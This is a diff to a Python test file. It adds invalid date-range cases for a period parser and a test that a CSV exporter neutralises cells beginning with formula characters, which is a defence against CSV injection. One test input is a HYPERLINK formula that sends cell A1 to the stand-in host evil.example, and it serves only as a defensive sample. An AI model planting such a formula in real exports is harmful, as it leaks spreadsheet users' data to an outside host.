@@ -140,7 +140,14 @@ def test_periods():
     assert period("7d", today=today).start == date(2026, 11, 24)
     assert period("12m", today=today).start == date(2025, 12, 1)
     assert not period("30d", today=today).by_month and period("year", today=today).by_month
-    for start, end in (("2026-11-30", "2026-11-01"), ("hier", None), ("2026-02-30", None)):
+    # The last one overflowed into the month after 9999-12: a 500 before.
+    for start, end in (
+        ("2026-11-30", "2026-11-01"),
+        ("hier", None),
+        ("2026-02-30", None),
+        ("1990-01-01", "1990-12-31"),
+        ("9990-01-01", "9999-12-31"),
+    ):
         with pytest.raises(PeriodError):
             period("custom", start, end)
     with pytest.raises(PeriodError):
@@ -189,3 +196,19 @@ def test_the_command(tmp_path, project, monkeypatch, capsys):
     assert totals(var / "stats" / "stats.sqlite") == (1, 1)
     assert command.main(["--home", str(project), "ingest", str(tmp_path / "missing.log")]) == 2
     assert "no such log file" in capsys.readouterr().err
+
+
+def test_text_cells_are_never_formulas():
+    """Section ids and titles are editors' text: the CSV export gives them to a spreadsheet
+    as text, whatever they start with (OWASP's CSV injection)."""
+    from ent.policy.csvfiles import neutralised
+
+    assert neutralised('=HYPERLINK("http://evil.example/?"&A1,"Cliquez")').startswith("'=")
+    assert [neutralised(text) for text in ("-2-3", "+1+2", "@sum(1)", "\tx", "Actualités", 12)] == [
+        "'-2-3",
+        "'+1+2",
+        "'@sum(1)",
+        "'\tx",
+        "Actualités",
+        "12",
+    ]
